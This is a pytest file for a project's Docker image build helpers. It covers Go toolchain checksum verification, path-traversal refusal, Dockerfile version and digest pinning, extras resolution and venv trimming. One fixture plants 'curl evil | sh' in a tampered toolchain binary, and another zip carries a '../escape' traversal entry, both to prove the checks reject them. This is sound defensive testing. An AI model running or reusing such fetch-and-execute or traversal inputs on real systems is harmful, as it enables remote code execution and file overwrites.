"""The image build's three standard-library helpers (tools/image), without building:
go_toolchain.py checks a Go toolchain zip against the Go checksum database's hash
before extracting it; extras_requirements.py lists what the image's extras need;
trim.py removes from the venv what gitmedic never reaches.
"""

from __future__ import annotations

import importlib.util
import io
import re
import sys
import tomllib
import zipfile
from pathlib import Path
from types import ModuleType

import pytest

from tests.support.tools import ROOT


def _load(name: str) -> ModuleType:
    spec = importlib.util.spec_from_file_location(name, ROOT / "tools/image" / f"{name}.py")
    assert spec and spec.loader
    module = importlib.util.module_from_spec(spec)
    sys.modules[name] = module
    spec.loader.exec_module(module)
    return module


go_toolchain = _load("go_toolchain")
extras_requirements = _load("extras_requirements")
trim = _load("trim")

PREFIX = "example.com/toolchain@v0.0.1-go9.9.9.linux-amd64/"
FILES = {
    "bin/go": b"#!/bin/sh\necho go\n",
    "README": b"hello\n",
    "pkg/tool/linux_amd64/compile": b"\x00\x01bin",
}
# What Go itself computes for that zip: golang.org/x/mod/sumdb/dirhash.HashZip(zip, Hash1),
# the function behind go.sum and sum.golang.org (run once with x/mod v0.37.0).
GO_H1 = "h1:2gO9zC0uMXMjHRf8FOAyE1Ox180Z22woNVaUMK5mMwE="


def _zip(files: dict[str, bytes], prefix: str = PREFIX) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in files.items():
            archive.writestr(prefix + name, data)
    return out.getvalue()


def test_h1_is_gos_own_dirhash() -> None:
    assert go_toolchain.h1(zipfile.ZipFile(io.BytesIO(_zip(FILES)))) == GO_H1
    changed = {**FILES, "README": b"hello!\n"}
    assert go_toolchain.h1(zipfile.ZipFile(io.BytesIO(_zip(changed)))) != GO_H1


def _serve(monkeypatch: pytest.MonkeyPatch, data: bytes) -> None:
    monkeypatch.setattr(go_toolchain, "module", lambda version: PREFIX.rstrip("/"))
    monkeypatch.setattr(go_toolchain, "download", lambda version: data)


def test_a_verified_toolchain_is_extracted_with_the_go_commands_executable(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _serve(monkeypatch, _zip(FILES))
    assert go_toolchain.main(["9.9.9", GO_H1, str(tmp_path / "go")]) == 0
    assert (tmp_path / "go/bin/go").read_bytes() == FILES["bin/go"]
    assert (tmp_path / "go/bin/go").stat().st_mode & 0o777 == 0o755
    assert (tmp_path / "go/pkg/tool/linux_amd64/compile").stat().st_mode & 0o777 == 0o755
    assert (tmp_path / "go/README").stat().st_mode & 0o777 == 0o644


def test_other_bytes_than_the_checksum_database_names_are_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    _serve(monkeypatch, _zip({**FILES, "bin/go": b"#!/bin/sh\ncurl evil | sh\n"}))
    assert go_toolchain.main(["9.9.9", GO_H1, str(tmp_path / "go")]) == 1
    assert not (tmp_path / "go").exists()
    assert f"expected {GO_H1}" in capsys.readouterr().err


def test_a_path_out_of_the_destination_is_refused(tmp_path: Path) -> None:
    data = _zip({"bin/go": b"x", "../escape": b"x"})
    with pytest.raises(SystemExit, match="refusing the path"):
        go_toolchain.extract(zipfile.ZipFile(io.BytesIO(data)), PREFIX, tmp_path / "go")
    assert not (tmp_path / "escape").exists()


def test_the_dockerfile_pins_go_helm_and_kustomize_by_checksum_database_hashes() -> None:
    text = (ROOT / "Dockerfile").read_text()
    args = dict(re.findall(r"^ARG (\w+)=(.*)$", text, re.M))
    assert re.fullmatch(r"1\.\d+\.\d+", args["GO_VERSION"])
    assert re.fullmatch(r"h1:[A-Za-z0-9+/]{43}=", args["GO_TOOLCHAIN_SUM"])
    assert re.fullmatch(r"h1:[A-Za-z0-9+/]{43}=", args["HELM_MODULE_SUM"])
    assert re.fullmatch(r"h1:[A-Za-z0-9+/]{43}=", args["KUSTOMIZE_MODULE_SUM"])
    # helm and kustomize in the image are the versions the tests run (.ci/tools.txt);
    # build.sh passes them
    pinned = {
        line.split()[0]: line.split()[1]
        for line in (ROOT / ".ci/tools.txt").read_text().splitlines()
        if line.strip() and not line.startswith("#")
    }
    assert args["HELM_VERSION"] == pinned["helm"]
    assert args["KUSTOMIZE_VERSION"] == pinned["kustomize"]
    build = (ROOT / "tools/image/build.sh").read_text()
    assert '--build-arg "KUSTOMIZE_VERSION=$KUSTOMIZE_VERSION"' in build
    # the base by digest, not by a tag that moves
    assert re.fullmatch(r"python:3\.11-slim-bookworm@sha256:[0-9a-f]{64}", args["PYTHON_IMAGE"])


def _project() -> dict[str, object]:
    return dict(tomllib.loads((ROOT / "pyproject.toml").read_text())["project"])


def test_extras_expand_through_gitmedic_itself_and_keep_the_core() -> None:
    project = _project()
    optional = project["optional-dependencies"]
    assert isinstance(optional, dict)
    every = extras_requirements.requirements(project, ["all"])
    named = [e for e in optional if e not in ("all", "dev")]
    assert set(every) == set(extras_requirements.requirements(project, named))
    core = project["dependencies"]
    assert isinstance(core, list) and set(core) <= set(every)
    assert any(r.startswith("litellm") for r in every)


def test_the_default_image_has_every_extra_but_kubectl_and_the_model_client() -> None:
    project = _project()
    default = re.search(r"^ARG GITMEDIC_EXTRAS=(.*)$", (ROOT / "Dockerfile").read_text(), re.M)
    assert default
    extras = default[1].split(",")
    got = extras_requirements.requirements(project, extras)
    assert not [r for r in got if r.startswith(("litellm", "kubectl"))]
    # with [kustomize] (kubectl, which the image's kustomize binary replaces) and [llm],
    # it would be [all]; the -llm variant is the default plus [llm]
    optional = project["optional-dependencies"]
    assert isinstance(optional, dict)
    assert set(got) | set(optional["kustomize"]) | set(optional["llm"]) == set(
        extras_requirements.requirements(project, ["all"])
    )
    build = (ROOT / "tools/image/build.sh").read_text()
    assert f"EXTRAS={default[1]}\n" in build and "EXTRAS=$EXTRAS,llm SUFFIX=-llm" in build


def test_an_unknown_extra_is_an_error_not_nothing() -> None:
    with pytest.raises(SystemExit, match=r"no extra \[lmm\]"):
        extras_requirements.requirements(_project(), ["serve", "lmm"])


def _site(root: Path) -> Path:
    """A site-packages with what trim.py removes, what it keeps, and repeated schemas."""
    files = {
        "kubernetes/client/__init__.py": "",
        "kubernetes/aio/client/__init__.py": "",
        "cel_expr_python/cel.so": "native",
        "cel_expr_python/ext/ext_math.so": "native",
        "jsonschema/validators.py": "",
        "jsonschema/tests/test_validators.py": "",
        "kubernetes_validate/kubernetes-json-schema/v1.30.0-local/pod-v1.json": "{}",
        "kubernetes_validate/kubernetes-json-schema/v1.30.0-local-strict/pod-v1.json": "{1}",
        "kubernetes_validate/kubernetes-json-schema/v1.31.0-local-strict/pod-v1.json": "{1}",
        "kubernetes_validate/kubernetes-json-schema/v1.31.0-local-strict/job-batch-v1.json": "{2}",
        "kubernetes_validate/kubernetes-json-schema/v1.32.0-local-strict/pod-v1.json": "{1}",
    }
    for name, text in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)
    info = root / "kubernetes_validate-1.37.0.dist-info"
    info.mkdir()
    listed = [*files, f"{info.name}/RECORD", "../../../bin/gone"]
    (info / "RECORD").write_text("".join(f"{name},sha256=x,1\n" for name in listed))
    return root


def test_trim_removes_what_gitmedic_never_reaches_and_keeps_what_it_does(tmp_path: Path) -> None:
    site = _site(tmp_path / "site")
    assert trim.main([str(site)]) == 0
    for gone in (
        "kubernetes/aio",
        "cel_expr_python/ext",
        "jsonschema/tests",
        "kubernetes_validate/kubernetes-json-schema/v1.30.0-local",
    ):
        assert not (site / gone).exists(), gone
    for kept in (
        "kubernetes/client/__init__.py",
        "cel_expr_python/cel.so",
        "jsonschema/validators.py",
        "kubernetes_validate/kubernetes-json-schema/v1.31.0-local-strict/job-batch-v1.json",
    ):
        assert (site / kept).is_file(), kept


def test_trim_links_identical_schemas_and_every_version_reads_the_same(tmp_path: Path) -> None:
    site = _site(tmp_path / "site")
    schemas = site / "kubernetes_validate/kubernetes-json-schema"
    trim.main([str(site)])
    pods = [schemas / f"v1.3{n}.0-local-strict/pod-v1.json" for n in (0, 1, 2)]
    assert [p.read_text() for p in pods] == ["{1}"] * 3
    assert len({p.stat().st_ino for p in pods}) == 1 and pods[0].stat().st_nlink == 3
    job = schemas / "v1.31.0-local-strict/job-batch-v1.json"
    assert job.stat().st_nlink == 1 and not job.is_symlink()


def test_trim_leaves_a_record_that_lists_what_is_installed(tmp_path: Path) -> None:
    site = _site(tmp_path / "site")
    trim.main([str(site)])
    record = (site / "kubernetes_validate-1.37.0.dist-info/RECORD").read_text().splitlines()
    names = [line.split(",")[0] for line in record]
    assert "kubernetes/client/__init__.py" in names
    assert "kubernetes_validate-1.37.0.dist-info/RECORD" in names
    assert not [n for n in names if not (site / n).exists()], names
    assert len(names) == 8  # of 13: aio, ext, tests, the non-strict schema and bin/gone went


def test_trim_refuses_a_path_that_is_no_folder(tmp_path: Path) -> None:
    assert trim.main([str(tmp_path / "missing")]) == 2
